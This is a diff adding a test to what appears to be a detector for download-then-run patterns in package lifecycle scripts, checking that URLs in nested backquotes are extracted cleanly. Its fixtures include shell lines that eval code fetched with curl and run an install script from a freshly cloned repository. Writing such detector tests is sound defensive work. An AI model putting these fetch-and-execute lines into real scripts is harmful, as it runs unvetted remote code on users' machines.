@@ -172,6 +172,13 @@ describe('download-then-run in lifecycle scripts', () => {
     expect(piped('#!/bin/bash\neval `echo \\`curl -s https://tools.example.net/x\\``')).toEqual(['https://tools.example.net/x']);
     expect(piped('#!/bin/bash\nV="$(echo $(curl -s https://config.example.net/v))"\necho $V\necho $(curl -s https://config.example.net/motd)')).toBeUndefined();
   });
+  it('lists a URL in a backquote nested with \\` without the escape: no stray backslash in script_code_uris', () => {
+    // It listed `https://tools.example.net/x\\` beside the URL itself (the line's URLs were read up to the backquote).
+    const codeUris = (script: string) => lifecycle('lc-nested', script).details?.script_code_uris;
+    expect(codeUris('#!/bin/bash\neval `echo \\`curl -s https://tools.example.net/x\\``')).toEqual(['https://tools.example.net/x']);
+    expect(codeUris('#!/bin/bash\nX=`echo \\`curl -s https://config.example.net/v\\` ok`')).toEqual(['https://config.example.net/v']);
+    expect(codeUris("#!/bin/bash\nV=`echo \\`curl -s 'https://config.example.net/q'\\``")).toEqual(['https://config.example.net/q']);
+  });
   it('git clone behind git options (-C dir, -c name=value) is the clone it is; -C is where its directory is (verify28c)', () => {
     // It went unseen: `git -C /tmp clone …` read as no clone, its install script run unlisted.
     expect(piped('#!/bin/bash\ngit -C /tmp clone https://tools.example.net/x.git && bash /tmp/x/i.sh')).toEqual(['https://tools.example.net/x.git']);
